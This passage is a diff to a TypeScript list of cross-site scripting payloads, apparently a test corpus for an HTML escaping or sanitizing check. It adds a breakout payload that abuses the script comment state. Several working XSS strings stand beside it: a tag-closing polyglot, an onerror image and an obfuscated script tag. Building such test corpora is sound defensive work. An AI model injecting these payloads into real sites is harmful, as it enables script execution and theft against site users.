@@ -296,6 +296,10 @@ export const xssPayloads: XssPayload[] = [
   },
   { name: 'polyglot-title-style-script', category: 'breakout', payload: r`javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/"/+/onmouseover=1/+/[*/[]/+$X//'>` },
   { name: 'unicode-line-separators', category: 'breakout', payload: '\u2028\u2029<img src=x onerror=$X>\u2028' },
+  // Inside a <script> (a page's JSON-LD), `<!--` then `<script` keeps the element's own `</script>`
+  // from ending it: the rest of the page becomes script text. (Last of its section: no later
+  // payload has a `-->`, which would end that state again.)
+  { name: 'breakout-script-comment-state', category: 'breakout', payload: r`<!--<script>$X</script>` },
 
   // ── obfuscation of tags and attributes ─────────────────────────────────────────────────────
   { name: 'img-triple-quote', category: 'obfuscation', payload: r`<img """><script>$X</script>">` },
